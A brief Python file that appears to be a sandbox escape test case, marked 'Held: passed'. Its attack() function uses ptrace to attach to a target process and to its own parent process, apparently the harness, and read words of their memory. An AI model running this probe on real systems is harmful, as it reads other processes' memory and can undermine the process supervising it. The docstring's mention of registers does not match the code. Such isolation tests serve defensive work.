"""Attaches to another process as a debugger would and reads its registers' stack.

Held: passed
"""

import ctypes
import os

PEEKDATA, ATTACH, DETACH, SEIZE, GETREGSET = 2, 16, 17, 0x4206, 0x4204


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    none = ctypes.c_void_p(0)
    found = []
    for pid in (target["pid"], os.getppid() if "course" not in target else 0):
        if pid and libc.ptrace(ATTACH, pid, none, none) == 0:
            os.waitpid(pid, 0)
            try:
                with open(f"/proc/{pid}/stat") as file:
                    start = int(file.read().rpartition(")")[2].split()[47])
                words = [libc.ptrace(PEEKDATA, pid, ctypes.c_void_p(start + 8 * n), none) for n in range(4)]
                found.append(b"".join(word.to_bytes(8, "little", signed=True) for word in words))
            except OSError:
                found.append(pid)
            libc.ptrace(DETACH, pid, none, none)
    return found or None
